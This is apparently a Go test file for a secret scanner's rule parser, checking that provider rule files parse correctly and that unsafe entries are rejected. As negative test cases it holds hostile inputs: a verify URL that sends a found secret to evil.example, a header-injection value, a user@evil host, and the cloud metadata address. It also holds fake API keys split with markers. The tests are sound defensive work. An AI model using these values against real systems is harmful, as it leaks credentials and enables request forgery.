package rules_test

import (
	"os"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/till-sh/till/rules"
)

func TestParse(t *testing.T) {
	got, err := rules.LoadFile("testdata/acme.toml")
	if err != nil {
		t.Fatal(err)
	}
	live := strings.ReplaceAll("acme_live_k3J9xQ<+>v2LmZ8pRw5TnY7bCd4Fg6Hs1A", "<+>", "")
	want := rules.Provider{
		ID: "acme", Name: "Acme", Reviewed: "2026-11-24",
		Docs: []string{"https://acme.example/docs/api-keys"},
		Rules: []rules.Rule{{
			ID: "acme-live-key", Provider: "acme", Description: "Acme live secret key",
			Docs:     []string{"https://acme.example/docs/live"},
			Keywords: []string{"acme_live_", "acme_test_"},
			Regex:    `\bacme_(?:live|test)_(?P<secret>[0-9A-Za-z]{32})\b`,
			Checksum: "npm-crc32", MinEntropy: 3, Severity: rules.Critical, Class: rules.ClassKey,
			Family: "acme-key", Paths: []string{"**/*.tf", "src/*.go"}, Allow: []string{"^0+$"},
			Needs: rules.Needs{Rule: "acme-client-id", Lines: 10, Without: "keep"},
			Samples: rules.Samples{
				Match: []string{`key = "` + live + `"`, strings.ReplaceAll("ACME_KEY=acme_live_9fKq<+>Z2xWv7RtYb3NmPc8LsDj5Hg4Ee6T", "<+>", "")},
				Miss:  []string{"acme_live_tooshort", strings.Replace(live, "_k", "_!", 1)},
			},
			Verify: rules.Verify{Note: "answers the same for every key"},
			Workflow: rules.Workflow{
				Order: rules.RevokeFirst, Self: true,
				Usage: "https://acme.example/logs : calls of the last day", Blast: "reads and refunds every payment",
				Revoke: []rules.Step{{
					Title: "Delete the key", URL: "https://{{account}}.acme.example/keys", Command: "acme keys revoke {{id}}",
					Request: &rules.Request{Method: "DELETE", URL: "https://{{host}}/v1/keys/{{id}}", Headers: []rules.Header{{"Authorization", "Bearer {{admin}}"}}},
				}},
				Reissue: []rules.Step{{Title: "Create a restricted key", URL: "https://acme.example/keys/new"}},
			},
		}, {
			ID: "acme-client-id", Provider: "acme", Description: "Acme client id", Keywords: []string{"acme"},
			Value: `[0-9a-f]{32}`, Severity: rules.Low, Class: rules.ClassSuspect, Human: true, Family: "acme-client-id",
			Needs: rules.Needs{Rule: "acme-live-key", Lines: 5, Without: "drop"},
			Samples: rules.Samples{
				Match: []string{"ACME_CLIENT_ID=0f3a91c7be5d2846" + "a09e73f1d4b8c256", "acme:\n  id: 7c41de09ab36f25e" + "81d7c4903fb6a2e8\n"},
				Miss:  []string{"ACME_CLIENT_ID=0f3a91c7be5d2846" + "a09e73f1d4b8", "id: 0f3a91c7be5d2846" + "a09e73f1d4b8c256"},
			},
			Verify: rules.Verify{
				Request: rules.Request{
					Method: "POST", URL: "https://api.acme.example/v1/me", Body: `{"id": "{{id}}"}`,
					Headers: []rules.Header{{"Authorization", "Bearer {{secret}}"}, {"X-Trace", "till"}},
				},
				Live: []int{200}, Dead: []int{200, 401}, LiveBody: `"ok":true`, DeadBody: "invalid_auth",
				Identity: "account.email", Scopes: "header:X-OAuth-Scopes", Docs: "https://acme.example/docs/me",
			},
			Workflow: rules.Workflow{Order: rules.ReissueFirst, Blast: "names the account", Revoke: []rules.Step{{Title: "Nothing", Text: "An id is public."}}},
		}},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got\n%+v\nwant\n%+v", got, want)
	}
}

var atLine = regexp.MustCompile(`@([+-]\d+)?`)

// change replaces old, which must stand in the acme file exactly once, and
// parses the outcome. It returns the line in which old begins.
func change(t *testing.T, old, new string) (int, error) {
	t.Helper()
	data, err := os.ReadFile("testdata/acme.toml")
	if err != nil {
		t.Fatal(err)
	}
	text := string(data)
	if n := strings.Count(text, old); n != 1 {
		t.Fatalf("%q stands %d times in the file", old, n)
	}
	_, err = rules.Parse("acme.toml", []byte(strings.Replace(text, old, new, 1)))
	return 1 + strings.Count(text[:strings.Index(text, old)], "\n"), err
}

func TestParseFaults(t *testing.T) {
	// "@" in want is the line of old, "@-2" the second line above it.
	const regex = `'\bacme_(?:live|test)_(?P<secret>[0-9A-Za-z]{32})\b'`
	tests := []struct{ name, old, new, want string }{
		{"no TOML", `id       = "acme"`, `id = acme"`, `acme.toml:@:`},
		{"duplicate key", `name     = "Acme"`, "name = \"Acme\"\nname = \"B\"", `acme.toml:@+1:15: invalid TOML`},
		{"unknown key", `name     = "Acme"`, "name = \"Acme\"\nnmae = 1", `acme.toml:@+1:1: unknown key "nmae" (did you mean "name"?)`},
		{"unknown rule key", `keywords    = ["acme"]`, "keyword = ['acme']\nkeywords = ['acme']", `acme.toml:@:1: rule acme-client-id: unknown key "keyword" (did you mean "keywords"?)`},
		{"underscore for dash", `min-entropy = 3`, `min_entropy = 3`, `acme.toml:@:1: rule acme-live-key: unknown key "min_entropy" (did you mean "min-entropy"?)`},
		{"unknown key far from all", `name     = "Acme"`, "name = \"Acme\"\nzzzzzzzz = 1", `acme.toml:@+1:1: unknown key "zzzzzzzz" (expected one of ask, docs, id, name, reviewed, rule, verify, workflow)`},
		{"unknown key in table", `without = "drop"`, `wihtout = "drop"`, `acme.toml:@:1: rule acme-client-id: needs: unknown key "wihtout" (did you mean "without"?)`},
		{"unknown key in request", `method = "DELETE", `, `metod = "DELETE", `, `acme.toml:@:13: workflow: revoke 1: request: unknown key "metod" (did you mean "method"?)`},
		{"wrong type", `human       = true`, `human = "yes"`, `acme.toml:@:1: rule acme-client-id: human: expected true or false, found a string`},
		{"wrong type in array", `keywords    = ["acme"]`, `keywords = ["acme", 7]`, `acme.toml:@:21: rule acme-client-id: keywords: expected an array of lower-case words, found an integer in it`},
		{"string for array", `keywords    = ["acme"]`, `keywords = "acme"`, `keywords: expected an array of lower-case words, found a string`},
		{"table for array of tables", "[[workflow.reissue]]", "[workflow.reissue]", `acme.toml:@:1: workflow: reissue: expected [[reissue]] tables, found a table`},
		{"missing in provider", `name     = "Acme"`, ``, `acme.toml:@-2:1: name is missing`},
		{"missing in rule", `description = "Acme client id"`, ``, `acme.toml:@-2:1: rule acme-client-id: description is missing`},
		{"missing rule id", `id          = "acme-client-id"`, ``, `acme.toml:@-1:1: rule 2: id is missing`},
		{"empty", `description = "Acme client id"`, `description = ""`, `description: is empty`},
		{"escape sequence", `description = "Acme client id"`, `description = "Acme \u001b[2J"`, `description: holds a control character`},
		{"date", `2026-11-24`, `"24.11.2026"`, `acme.toml:@:1: reviewed: expected a date, such as 2026-11-24, found a string`},
		{"file name", `id       = "acme"`, `id = "acma"`, `acme.toml:@:1: id: "acma": expected the file's name without .toml, "acme"`},
		{"provider id", `id       = "acme"`, `id = "Acme"`, `id: "Acme": expected a-z, 0-9 and dashes`},
		{"rule id", `id          = "acme-client-id"`, `id = "client-id"`, `acme.toml:@:1: rule client-id: id: expected it to start with the provider's id and a dash, "acme-"`},
		{"duplicate id", `id          = "acme-client-id"`, `id = "acme-live-key"`, `acme.toml:@:1: rule acme-live-key: id: is the id of rule 1 (line 7) as well`},
		{"bad RE2", regex, `'acme_live_(?!x)'`, `acme.toml:@:1: rule acme-live-key: regex: expected an RE2 expression: invalid or unsupported Perl syntax`},
		{"too large", regex, `'acme_live_(?:[a-z]{999}){999}'`, `regex: expected an RE2 expression`},
		{"group name", regex, `'acme_live_(?P<key>[a-z]{8})'`, `regex: group "key": expected secret or id`},
		{"group without name", regex, `'acme_live_([a-z]{8})'`, `regex: a group without name`},
		{"empty match", regex, `'(?:acme_live_)?'`, `regex: matches the empty string`},
		{"alternative without keyword", regex, `'\b(?:acme_live_|acme_prod_)[a-z]{8}'`, `rule acme-live-key: regex: expected every match to hold a keyword, but `},
		{"value with group", `'[0-9a-f]{32}'`, `'([0-9a-f]{32})'`, `acme.toml:@:1: rule acme-client-id: value: holds a capture group`},
		{"value with anchor", `'[0-9a-f]{32}'`, `'[0-9a-f]{32}$'`, `value: holds an anchor`},
		{"value with boundary", `'[0-9a-f]{32}'`, `'\b[0-9a-f]{32}'`, `value: holds an anchor`},
		{"value empty", `'[0-9a-f]{32}'`, `'[0-9a-f]*'`, `value: matches the empty string`},
		{"no expression", `value       = '[0-9a-f]{32}'`, ``, `acme.toml:@-7:1: rule acme-client-id: neither regex nor value`},
		{"allow", `'^0+$'`, `'^0+$', '['`, `acme.toml:@:24: rule acme-live-key: allow[1]: expected an RE2 expression`},
		{"glob", `"**/*.tf"`, `"**/["`, `acme.toml:@:16: rule acme-live-key: paths[0]: "**/[": syntax error in pattern`},
		{"no keyword", `keywords    = ["acme"]`, `keywords = []`, `keywords: is empty`},
		{"upper-case keyword", `keywords    = ["acme"]`, `keywords = ["ACME"]`, `acme.toml:@:13: rule acme-client-id: keywords[0]: "ACME": expected lower case, "acme"`},
		{"short keyword", `keywords    = ["acme"]`, `keywords = ["ac"]`, `keywords[0]: "ac": expected 3 characters or more`},
		{"keyword twice", `keywords    = ["acme"]`, `keywords = ["acme", "acme"]`, `keywords[1]: "acme" stands there twice`},
		{"severity", `"critical"`, `"critcal"`, `acme.toml:@:1: rule acme-live-key: severity: "critcal": expected one of critical, high, medium, low (did you mean "critical"?)`},
		{"class", `"suspect"`, `"suspicious"`, `class: "suspicious": expected one of key, suspect`},
		{"order", `"reissue-first"`, `"reissue"`, `order: "reissue": expected one of revoke-first, reissue-first`},
		{"entropy", `min-entropy = 3`, `min-entropy = 9.5`, `min-entropy: 9.5: expected a number of bits per character, 0 to 8`},
		{"checksum", `"npm-crc32"`, `"npm-crc"`, `acme.toml:@:1: rule acme-live-key: checksum: "npm-crc": expected one of `},
		{"needs", `rule = "acme-client-id"`, `rule = "acme-client-di"`, `acme.toml:@:1: rule acme-live-key: needs: rule: "acme-client-di": there is no rule of this id in the file (did you mean "acme-client-id"?)`},
		{"needs itself", `rule = "acme-client-id"`, `rule = "acme-live-key"`, `needs: rule: expected another rule than this one`},
		{"needs lines", `lines   = 5`, `lines = -1`, `needs: lines: -1: expected a number of lines`},
		{"status", `[200, 401]`, `[200, 4010]`, `acme.toml:@:19: verify: dead: 4010: expected an HTTP status code`},
		{"status in both", "live-body = '\"ok\":true'\ndead-body = 'invalid_auth'\n", ``, `verify: dead: 200 is in live as well`},
		{"nothing to ask", `note = "answers the same for every key"`, ``, `acme.toml:@-1:1: rule acme-live-key: verify: neither url nor func`},
		{"http", `https://api.acme.example/v1/me`, `http://api.acme.example/v1/me`, `acme.toml:@:1: verify: url: "http://api.acme.example/v1/me": expected https://`},
		{"docs over http", `"https://acme.example/docs/live"`, `"http://acme.example/docs/live"`, `acme.toml:@:16: rule acme-live-key: docs[0]: "http://acme.example/docs/live": expected https://`},
		{"host template", `https://{{host}}/v1`, `https://{{server}}/v1`, `request: url: "{{server}}": expected {{host}} alone`},
		{"host template inside", `https://{{host}}/v1`, `https://evil{{host}}/v1`, `request: url: "evil{{host}}": expected {{host}} alone`},
		{"user in host", `https://{{host}}/v1`, `https://api.acme.example@evil.example/v1`, `expected a host without user and password`},
		{"secret in host", `https://{{host}}/v1`, `https://{{secret}}.acme.example/v1`, `the secret in a host name`},
		{"number as host", `https://{{host}}/v1`, `https://169.254.169.254/v1`, `expected a host name, not a number`},
		{"local host", `https://{{host}}/v1`, `https://localhost/v1`, `expected a full host name`},
		{"secret in command", `acme keys revoke {{id}}`, `acme keys revoke {{secret}}`, `acme.toml:@:1: workflow: revoke 1: command: holds {{secret}}`},
		{"secret in page", `https://acme.example/keys/new`, `https://acme.example/keys/{{secret}}`, `workflow: reissue 1: url: holds {{secret}}`},
		{"broken template", `acme keys revoke {{id}}`, `acme keys revoke {{id}`, `command: holds {{ without a name`},
		{"step without deed", "url   = \"https://acme.example/keys/new\"\n", "", `acme.toml:@-2:1: workflow: reissue 1: nothing to do`},
		{"headers alone", `url       = "https://api.acme.example/v1/me"`, `note = "x"`, `verify: headers: expected url beside it`},
		{"header name", `X-Trace = "till"`, `"X Trace" = "till"`, `verify: headers: X Trace: is no HTTP header name`},
		{"header injection", `X-Trace = "till"`, `X-Trace = "till\r\nHost: evil"`, `verify: headers: X-Trace: holds a control character`},
		{"url and func", `method    = "POST"`, `func = "acme-sign"`, `verify: func: expected either url or func, not both`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			line, err := change(t, tt.old, tt.new)
			want := atLine.ReplaceAllStringFunc(tt.want, func(s string) string {
				offset, _ := strconv.Atoi(s[1:])
				return strconv.Itoa(line + offset)
			})
			if err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("got error\n%v\nwant\n%s", err, want)
			}
		})
	}
}

// TestParseAllFaults: a writer wants to mend a file in one go.
func TestParseAllFaults(t *testing.T) {
	data := `id = "acme"
name = "Acme"
reviewed = 2026-11-24
docs = ["https://acme.example/docs"]
[[rule]]
id = "acme-key"
severity = "dire"
keywords = ["AC"]
regex = '('
[rule.needs]
lines = "many"
`
	_, err := rules.Parse("acme.toml", []byte(data))
	var got []string
	for _, f := range rules.Faults(err) {
		got = append(got, f.Error())
	}
	want := []string{
		`acme.toml:5:1: rule acme-key: description is missing: expected a noun phrase`,
		`acme.toml:7:1: rule acme-key: severity: "dire": expected one of critical, high, medium, low`,
		`acme.toml:8:13: rule acme-key: keywords[0]: "AC": expected lower case, "ac" (either case is found)`,
		"acme.toml:9:1: rule acme-key: regex: expected an RE2 expression: missing closing ): `(`",
		`acme.toml:10:1: rule acme-key: needs: rule is missing: expected the id of the other half's rule`,
		`acme.toml:11:1: rule acme-key: needs: lines: expected a number of lines, found a string`,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestParseKeepsFileTextOut(t *testing.T) {
	// A syntax error on a line with a key must not carry the line.
	const value = "Zk3vQ9xL2mTn8Rw5"
	_, err := rules.Parse("acme.toml", []byte("id = \"acme\"\nkey = \""+value+"\n"))
	if err == nil {
		t.Fatal("no error")
	}
	if strings.Contains(err.Error(), value) {
		t.Error("the error quotes the line")
	}
}

const localRule = `min-version = "1.0"

[[rule]]
id = "intra-deploy-key"
description = "Intranet deploy key"
severity = "high"
keywords = ["intra_"]
regex = '\bintra_[0-9a-f]{24}\b'
`

func TestParseRules(t *testing.T) {
	got, err := rules.ParseRules(".till.toml", []byte(localRule))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].ID != "intra-deploy-key" || got[0].Provider != "intra" || got[0].Class != rules.ClassKey {
		t.Errorf("got %+v", got)
	}

	const want = `.till.toml:9:1: rule intra-deploy-key: verify: a rule of the scanned repository may not name a network request`
	_, err = rules.ParseRules(".till.toml", []byte(localRule+"[rule.verify]\nurl = \"https://evil.example/?k={{secret}}\"\nlive = [200]\n"))
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("got %v, want %s", err, want)
	}
	_, err = rules.ParseRules(".till.toml", []byte(localRule+"[[rule.workflow.revoke]]\ntitle = \"Go\"\nrequest = { url = \"https://evil.example\" }\n"))
	if err == nil || !strings.Contains(err.Error(), "may not name a network request") {
		t.Errorf("request in a step: got %v", err)
	}
	_, err = rules.ParseRules(".till.toml", []byte(strings.Replace(localRule, "intra-deploy-key", "intra", 1)))
	if err == nil || !strings.Contains(err.Error(), "expected <provider>-<kind>") {
		t.Errorf("id without kind: got %v", err)
	}
	if got, err := rules.ParseRules(".till.toml", []byte("ignore = [\"docs/**\"]\n")); err != nil || got != nil {
		t.Errorf("no rule tables: got %v, %v", got, err)
	}
}

func TestParseLocal(t *testing.T) {
	data, err := os.ReadFile("testdata/acme.toml")
	if err != nil {
		t.Fatal(err)
	}
	_, err = rules.ParseLocal("acme.toml", data)
	if n := len(rules.Faults(err)); n != 3 { // [rule.verify], [verify], the step's request
		t.Errorf("got %d faults, want 3:\n%v", n, err)
	}
}

func TestLoadFS(t *testing.T) {
	acme, err := os.ReadFile("testdata/acme.toml")
	if err != nil {
		t.Fatal(err)
	}
	boss := []byte(strings.ReplaceAll(strings.ReplaceAll(string(acme), "acme", "boss"), "2026-11-24", "2026-12-01"))
	fsys := fstest.MapFS{"p/boss.toml": {Data: boss}, "p/acme.toml": {Data: acme}, "p/README.md": {Data: []byte("x")}}
	c, err := rules.LoadFS(fsys, "p")
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Providers) != 2 || c.Providers[0].ID != "acme" || c.Providers[1].ID != "boss" {
		t.Errorf("providers: %+v", c.Providers)
	}
	date, sum, _ := strings.Cut(c.Version, ".")
	if date != "2026-12-01" || len(sum) != 6 {
		t.Errorf("version %q", c.Version)
	}
	fsys["p/acme.toml"] = &fstest.MapFile{Data: append(acme[:len(acme):len(acme)], '\n')}
	if c2, err := rules.LoadFS(fsys, "p"); err != nil || c2.Version == c.Version {
		t.Errorf("version did not follow a change: %v, %v", c2, err)
	}

	// A rule of one file may need one of another, but it has to exist.
	other := strings.Replace(string(acme), `rule    = "acme-live-key"`, `rule = "boss-live-key"`, 1)
	fsys["p/acme.toml"] = &fstest.MapFile{Data: []byte(other)}
	if _, err := rules.LoadFS(fsys, "p"); err != nil {
		t.Errorf("needs across files: %v", err)
	}
	fsys["p/acme.toml"] = &fstest.MapFile{Data: []byte(strings.Replace(other, "boss-live-key", "boss-no-key", 1))}
	if _, err := rules.LoadFS(fsys, "p"); err == nil || !strings.Contains(err.Error(), `needs.rule "boss-no-key"`) {
		t.Errorf("missing partner: %v", err)
	}

	if c, err := rules.LoadFS(fstest.MapFS{}, "p"); err != nil || len(c.Providers) != 0 {
		t.Errorf("no files: %v, %v", c, err)
	}
}

func TestWith(t *testing.T) {
	acme, err := rules.LoadFile("testdata/acme.toml")
	if err != nil {
		t.Fatal(err)
	}
	base := &rules.Catalogue{Version: "v", Providers: []rules.Provider{acme}}
	mine, err := rules.ParseRules(".till.toml", []byte(localRule+strings.ReplaceAll(localRule[strings.Index(localRule, "[["):], "intra", "acme")))
	if err != nil {
		t.Fatal(err)
	}
	got, err := base.With(mine...)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Providers) != 2 || len(got.Providers[0].Rules) != 3 || got.Providers[1].ID != "intra" || got.Version == "v" {
		t.Errorf("got %+v", got)
	}
	if len(base.Providers) != 1 || len(base.Providers[0].Rules) != 2 {
		t.Error("With changed its receiver")
	}
	if _, err := got.With(mine[0]); err == nil || !strings.Contains(err.Error(), "intra-deploy-key: its id is taken") {
		t.Errorf("taken id: %v", err)
	}
	needy := mine[0]
	needy.ID, needy.Needs.Rule = "intra-two", "nobody-here"
	if _, err := base.With(needy); err == nil {
		t.Error("a missing partner was accepted")
	}
}
